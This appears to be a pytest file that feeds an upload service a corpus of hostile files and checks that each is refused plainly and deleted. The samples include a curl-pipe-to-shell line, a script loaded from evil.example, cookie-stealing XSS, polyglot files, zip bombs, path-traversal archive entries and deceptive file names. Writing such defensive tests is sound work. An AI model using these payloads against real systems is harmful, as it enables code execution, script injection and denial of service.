"""The attack corpus: files an attacker (or an unlucky family) might upload, each refused plainly.

Every file goes through the same steps the upload service takes: stream it into storage, check
its type, scan it, and delete it if any step refuses it. Each case proves the refusal message
names the file and says why in plain words, and that nothing of the upload is left behind.
"""

from __future__ import annotations

import io
import re
import struct
import unicodedata
from pathlib import Path

import pytest

from portal.documents.filenames import clean_display_name
from portal.documents.filetypes import CheckedFile, RejectedFile, check_upload
from portal.documents.scanning import ClamdScanner, NoScanner, Scanner, ScanResult
from portal.documents.storage import LocalStorage, StoredFile, TooLarge
from tests.documents import samples

MAX_BYTES = 20 * 1024 * 1024


def receive(
    storage: LocalStorage, scanner: Scanner, name: str, data: bytes, max_bytes: int = MAX_BYTES
) -> tuple[StoredFile, CheckedFile, ScanResult]:
    """Store, check and scan an upload the way the upload service does; delete it if refused."""
    stored = storage.save_stream(io.BytesIO(data), max_bytes)  # TooLarge cleans up itself
    try:
        checked = check_upload(storage.path(stored.key), name)
        with storage.open(stored.key) as f:
            result = scanner.scan(f)
        if result.infected:
            raise RejectedFile(
                f"The file '{clean_display_name(name)}' has a virus in it, so it was not added."
            )
    except BaseException:
        storage.delete(stored.key)
        raise
    return stored, checked, result


def patch_zip_entry(
    data: bytes, name: str, *, add_flags: int = 0, file_size: int | None = None
) -> bytes:
    """Rewrite one entry's header fields in both the local header and the central directory."""
    buffer = bytearray(data)
    encoded = name.encode()
    # (signature, offset of flags, offset of uncompressed size, offset of name length, header size)
    for signature, flags_at, size_at, name_length_at, fixed in (
        (b"PK\x03\x04", 6, 22, 26, 30),
        (b"PK\x01\x02", 8, 24, 28, 46),
    ):
        position = buffer.find(signature)
        while position >= 0:
            (name_length,) = struct.unpack_from("<H", buffer, position + name_length_at)
            if buffer[position + fixed : position + fixed + name_length] == encoded:
                (flags,) = struct.unpack_from("<H", buffer, position + flags_at)
                struct.pack_into("<H", buffer, position + flags_at, flags | add_flags)
                if file_size is not None:
                    struct.pack_into("<I", buffer, position + size_at, file_size)
            position = buffer.find(signature, position + 4)
    return bytes(buffer)


def _windows_program() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"This program cannot be run in DOS mode."


def _elf_program() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100


def _macho_program() -> bytes:
    return b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 100


def _zip_bomb_docx() -> bytes:
    # 20 MB of zeros packs to about 20 KB: a ratio near 1000 to 1.
    return samples.docx(body=samples.docx_body() + " " * (20 * 1024 * 1024))


def _lying_zip_bomb_docx() -> bytes:
    # The directory claims the main part unpacks to 1 KB; it really unpacks to 5 MB.
    real = samples.docx(body=samples.docx_body() + " " * (5 * 1024 * 1024))
    return patch_zip_entry(real, "word/document.xml", file_size=1024)


def _many_parts_docx() -> bytes:
    return samples.docx([(f"word/media/part{n}.xml", "<x/>") for n in range(5001)])


def _under_reported_parts_docx() -> bytes:
    # 6,000 parts, but the end record claims 3: the parts are counted, not the claim believed.
    data = bytearray(samples.docx([(f"p{n}", "") for n in range(6000)]))
    end = data.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", data, end + 8, 3, 3)
    return bytes(data)


def _pdf_html_polyglot() -> bytes:
    # A PDF that is also a web page: browsers sniffing the start would run the script.
    return samples.pdf().replace(
        b"%PDF-1.7\n", b"%PDF-1.7\n%<html><script>alert(document.cookie)</script>\n", 1
    )


def _gif_javascript_polyglot() -> bytes:
    # Valid as a GIF header and as JavaScript: GIF89a/*...*/=alert(...)
    return b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=alert(document.domain);//\x3b"


def _jpeg_html_polyglot() -> bytes:
    comment = b"<html><script>alert(1)</script></html>"
    image = samples.jpeg()
    # Put the comment (COM segment) straight after the start-of-image marker.
    return image[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + image[2:]


def _pdf_header_in_png() -> bytes:
    return samples.png(extra_chunks=[(b"tEXt", b"Comment\x00%PDF-1.4 1 0 obj << >> endobj")])


def _embedded_object_rtf() -> bytes:
    return (
        b"{\\rtf1\\ansi Hello {\\object\\objemb\\objw100\\objh100"
        b"{\\*\\objclass Package}{\\*\\objdata 01050000020000000800000050616b6167650000}}}"
    )


# (id, uploaded file name, content, words the refusal must contain)
CORPUS: list[tuple[str, str, bytes, str]] = [
    # Programs wearing a document's name.
    (
        "windows-program-as-pdf",
        "report.pdf",
        _windows_program(),
        "The file 'report.pdf' is not a PDF: its content is a Windows program.",
    ),
    (
        "linux-program-as-docx",
        "advice.docx",
        _elf_program(),
        "is not a Word document: its content is a Linux program",
    ),
    ("mac-program-as-png", "photo.png", _macho_program(), "its content is a Mac program"),
    (
        "shell-script-as-txt",
        "notes.txt",
        b"#!/bin/sh\ncurl -s http://example.com/x | sh\n",
        "is not a plain text file: its content is a script",
    ),
    ("windows-program-as-exe", "setup.exe", _windows_program(), "'setup.exe' is a Windows program"),
    # Web pages and SVG, which can run scripts in a browser.
    (
        "html-with-script-as-pdf",
        "letter.pdf",
        b"<html><body><script>fetch('/cases').then(r => r.text())</script></body></html>",
        "is not a PDF: its content is a web page (HTML)",
    ),
    (
        "html-with-script-as-txt",
        "notes.txt",
        b"<!DOCTYPE html>\n<html><head><script>alert(1)</script></head></html>",
        "is not a plain text file: its content is a web page (HTML)",
    ),
    (
        "html-after-bom-and-spaces-as-txt",
        "notes.txt",
        "\ufeff  \n\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>".encode(),
        "its content is a web page (HTML)",
    ),
    ("html-as-html", "page.html", b"<html><p>Hello</p></html>", "'page.html' is a web page"),
    (
        "svg-with-script-as-png",
        "photo.png",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<script>alert(2)</script></svg>",
        "is not a PNG image: its content is an SVG image",
    ),
    (
        "svg-with-xml-prolog-as-jpg",
        "photo.jpg",
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script>'
        b"</svg>",
        "its content is an SVG image",
    ),
    (
        "script-hidden-deep-in-text",
        "meeting notes.txt",
        b"Notes from the meeting.\n" * 2000
        + b"<script>alert(document.cookie)</script>\n"
        + b"More notes.\n" * 2000,
        "cannot be accepted: it contains web page code (HTML)",
    ),
    # Polyglots: one file that is two kinds at once.
    (
        "pdf-html-polyglot",
        "plan.pdf",
        _pdf_html_polyglot(),
        "it also contains web page code (HTML), a trick used in attacks",
    ),
    (
        "gif-javascript-polyglot-as-jpg",
        "photo.jpg",
        _gif_javascript_polyglot(),
        "is not a JPEG image: its content is a GIF image",
    ),
    (
        "jpeg-html-polyglot",
        "photo.jpg",
        _jpeg_html_polyglot(),
        "it also contains web page code (HTML)",
    ),
    (
        "jpeg-with-zip-appended",
        "photo.jpg",
        samples.jpeg() + samples.zip_bytes([("payload.exe", _windows_program())]),
        "it has a ZIP archive hidden inside it",
    ),
    (
        "pdf-with-zip-appended",
        "advice.pdf",
        samples.pdf() + samples.zip_bytes([("run.sh", b"#!/bin/sh\n")]),
        "it has a ZIP archive hidden inside it",
    ),
    (
        "png-with-data-after-end",
        "chart.png",
        samples.png() + b"\x00payload" * 200,
        "it has extra data hidden after the end of the image",
    ),
    (
        "pdf-header-hidden-in-png",
        "chart.png",
        _pdf_header_in_png(),
        "it also contains the start of a PDF",
    ),
    (
        "pdf-with-data-after-end",
        "advice.pdf",
        samples.pdf() + b"\n% padding\n" * 200,
        "it looks damaged or has something added at the end",
    ),
    (
        "data-appended-to-docx",
        "advice.docx",
        samples.docx() + b"#!/bin/sh\n" * 10,
        "it has extra data added at the end",
    ),
    # ZIP tricks in Word and OpenDocument files.
    ("zip-bomb-as-docx", "advice.docx", _zip_bomb_docx(), "a “zip bomb”"),
    ("zip-bomb-lying-about-its-size", "advice.docx", _lying_zip_bomb_docx(), "it looks damaged"),
    ("too-many-parts-docx", "advice.docx", _many_parts_docx(), "it has more than 5,000 parts"),
    (
        "zip-that-under-reports-its-parts",
        "advice.docx",
        _under_reported_parts_docx(),
        "it has more than 5,000 parts",
    ),
    (
        "path-traversal-in-docx",
        "advice.docx",
        samples.docx([("../../../etc/cron.d/evil", "* * * * * root sh")]),
        "it has a part whose name points outside the document",
    ),
    (
        "absolute-path-in-odt",
        "views.odt",
        samples.odt([("/etc/passwd", "root::0:0")]),
        "points outside the document",
    ),
    (
        "windows-drive-path-in-docx",
        "advice.docx",
        samples.docx([("C:/Windows/evil.dll", "x")]),
        "points outside the document",
    ),
    (
        "nested-zip-in-docx",
        "advice.docx",
        samples.docx([("word/media/image1.png", samples.zip_bytes([("x.txt", "hi")]))]),
        "it has another compressed file packed inside it",
    ),
    (
        "zip-inside-the-embedded-chart",
        "advice.docx",
        samples.docx(
            [
                (
                    "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
                    samples.zip_bytes(
                        [("xl/workbook.xml", "<w/>"), ("xl/inner.zip", samples.xlsx())]
                    ),
                )
            ]
        ),
        "another compressed file packed inside it",
    ),
    (
        "program-inside-docx",
        "advice.docx",
        samples.docx([("word/media/setup.exe", _windows_program())]),
        "it has a program packed inside it",
    ),
    (
        "plain-zip-as-docx",
        "advice.docx",
        samples.zip_bytes([("readme.txt", "hello")]),
        "is not a Word document: its content is a ZIP archive",
    ),
    (
        "macro-word-file-as-docx",
        "advice.docx",
        samples.docx(
            [("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")], content_types=samples.DOCM_CONTENT_TYPES
        ),
        "it contains macros",
    ),
    (
        "odt-with-basic-macros",
        "views.odt",
        samples.odt([("Basic/Standard/Module1.xml", "<script:module/>")]),
        "it contains macros",
    ),
    (
        "spreadsheet-as-odt",
        "views.odt",
        samples.odt(mimetype="application/vnd.oasis.opendocument.spreadsheet"),
        "is not an OpenDocument text file: its content is an OpenDocument spreadsheet",
    ),
    ("excel-as-docx", "advice.docx", samples.xlsx(), "its content is an Excel spreadsheet"),
    (
        "java-program-as-docx",
        "advice.docx",
        samples.zip_bytes([("META-INF/MANIFEST.MF", "Main-Class: X\n"), ("X.class", b"\xca")]),
        "its content is a Java program",
    ),
    (
        "password-locked-docx",
        "advice.docx",
        patch_zip_entry(samples.docx(), "word/document.xml", add_flags=0x1),
        "part of it is locked with a password",
    ),
    (
        "duplicate-parts-docx",
        "advice.docx",
        samples.docx([("word/document.xml", samples.docx_body("second copy"))]),
        "two parts with the same name",
    ),
    # Empty, mismatched and unreadable files.
    ("zero-byte-file", "report.pdf", b"", "The file 'report.pdf' is empty."),
    (
        "png-named-jpg",
        "photo.jpg",
        samples.png(),
        "is not a JPEG image: its content is a PNG image. Rename it to end in .png",
    ),
    (
        "jpeg-named-pdf",
        "scan.pdf",
        samples.jpeg(),
        "is not a PDF: its content is a JPEG image. Rename it to end in .jpg",
    ),
    (
        "docx-named-odt",
        "views.odt",
        samples.docx(),
        "is not an OpenDocument text file: its content is a Word document",
    ),
    (
        "old-word-file-as-docx",
        "advice.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500,
        "an older Microsoft Office file (such as .doc)",
    ),
    (
        "iphone-photo-as-jpg",
        "photo.jpg",
        b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 100,
        "a HEIC photo",
    ),
    (
        "rtf-with-embedded-object",
        "views.rtf",
        _embedded_object_rtf(),
        "it has an embedded object, which can hide a program",
    ),
    (
        "binary-with-nul-bytes-as-txt",
        "notes.txt",
        b"hello\x00\x01\x02world",
        "its content is a kind of file we do not accept",
    ),
    (
        "text-in-old-windows-encoding",
        "notes.txt",
        "Lunch money: £5. Café trip on Friday.\n".encode("cp1252") * 20,
        "text that is not saved in the UTF-8 format",
    ),
    (
        "terminal-escape-codes-in-text",
        "notes.txt",
        b"All fine \x1b]0;you have been hacked\x07\x1b[2J\n",
        "a kind of file we do not accept",
    ),
    (
        "truncated-pdf",
        "advice.pdf",
        samples.pdf()[:-300],
        "it looks damaged or has something added at the end",
    ),
    (
        "pdf-header-not-at-start",
        "advice.pdf",
        b"\n\n" + samples.pdf(),
        "something is added before the start of the PDF",
    ),
    # Tricks in the file name: the content is fine, the name is not.
    (
        "right-to-left-override-hides-exe",
        "invoice\u202efdp.exe",  # shows as "invoiceexe.pdf"
        samples.pdf(),
        "The file 'invoicefdp.exe' is a PDF, but its name does not end in .pdf",
    ),
    (
        "nul-byte-before-exe",
        "report.pdf\x00.exe",
        samples.pdf(),
        "The file 'report.pdf.exe' is a PDF, but its name does not end in .pdf",
    ),
    (
        "path-traversal-name-without-extension",
        "../../etc/passwd",
        samples.text(),
        "The file 'passwd' is a plain text file, but its name does not end in .txt",
    ),
]

_NOT_PLAIN = re.compile(r"Error|Exception|Traceback|zipfile|\\x|0x|None|\{|\}")


def _assert_plain(message: str, name: str) -> None:
    assert message.startswith(f"The file '{clean_display_name(name)}' ")
    assert message.endswith(".")
    assert not _NOT_PLAIN.search(message), message
    assert all(unicodedata.category(char)[0] != "C" for char in message), message
    assert len(message) < 300


def _assert_nothing_kept(storage: LocalStorage) -> None:
    assert list(storage.keys()) == []
    leftovers = [p for p in storage.root.rglob("*") if p.is_file()] if storage.root.exists() else []
    assert leftovers == []


@pytest.fixture
def storage(tmp_path: Path) -> LocalStorage:
    return LocalStorage(tmp_path / "uploads")


def test_corpus_is_big_enough() -> None:
    """The corpus covers at least 25 different attacks (plus EICAR and the size limit below)."""
    assert len(CORPUS) >= 25
    assert len({case_id for case_id, *_ in CORPUS}) == len(CORPUS)


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [pytest.param(name, data, expected, id=case_id) for case_id, name, data, expected in CORPUS],
)
def test_attack_is_refused_plainly_and_nothing_is_kept(
    storage: LocalStorage, name: str, data: bytes, expected: str
) -> None:
    """Each attack file is refused with a plain message saying why, and leaves no file behind."""
    with pytest.raises(RejectedFile) as refused:
        receive(storage, NoScanner(), name, data)
    message = refused.value.message
    assert expected in message
    _assert_plain(message, name)
    _assert_nothing_kept(storage)


def test_eicar_is_refused_by_the_scanner(storage: LocalStorage, clamd_socket: str) -> None:
    """The EICAR test virus, though valid text, is refused by ClamAV and not kept."""
    name = "notes.txt"
    assert check_upload_bytes(storage, name, samples.eicar()).kind == "text"  # type is fine...
    with pytest.raises(RejectedFile) as refused:  # ...but the scanner is not
        receive(storage, ClamdScanner(clamd_socket), name, samples.eicar())
    assert "has a virus in it" in refused.value.message
    _assert_nothing_kept(storage)


def check_upload_bytes(storage: LocalStorage, name: str, data: bytes) -> CheckedFile:
    """Check a file's type without scanning it, cleaning up afterwards."""
    stored = storage.save_stream(io.BytesIO(data), None)
    try:
        return check_upload(storage.path(stored.key), name)
    finally:
        storage.delete(stored.key)


def test_one_byte_over_the_size_limit_is_refused(storage: LocalStorage) -> None:
    """A file one byte over the limit is refused with the limit in the message; nothing is kept."""
    with pytest.raises(TooLarge) as refused:
        receive(storage, NoScanner(), "scan.pdf", b"x" * (MAX_BYTES + 1))
    assert refused.value.message == "The file is too big. Files must be smaller than 20 MB."
    _assert_nothing_kept(storage)


@pytest.mark.parametrize("kind", list(samples.valid_files()))
def test_valid_files_are_accepted_and_scanned_clean(
    storage: LocalStorage, clamd_socket: str, kind: str
) -> None:
    """A genuine file of each accepted kind is kept, typed correctly, and scans clean."""
    name, data = samples.valid_files()[kind]
    stored, checked, result = receive(storage, ClamdScanner(clamd_socket), name, data)
    assert checked.kind == kind
    assert result.clean
    assert stored.size == len(data)
    assert list(storage.keys()) == [stored.key]


def test_an_iphone_photo_is_refused_with_how_to_send_it(storage: LocalStorage) -> None:
    """A HEIC photo (the iPhone camera's format) is refused with a way to send it that works."""
    heic = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 100
    with pytest.raises(RejectedFile) as refused:
        receive(storage, NoScanner(), "IMG_0001.HEIC", heic)
    message = refused.value.message
    assert "HEIC photo" in message
    assert "Add a screenshot of the photo instead." in message
    _assert_plain(message, "IMG_0001.HEIC")
    _assert_nothing_kept(storage)
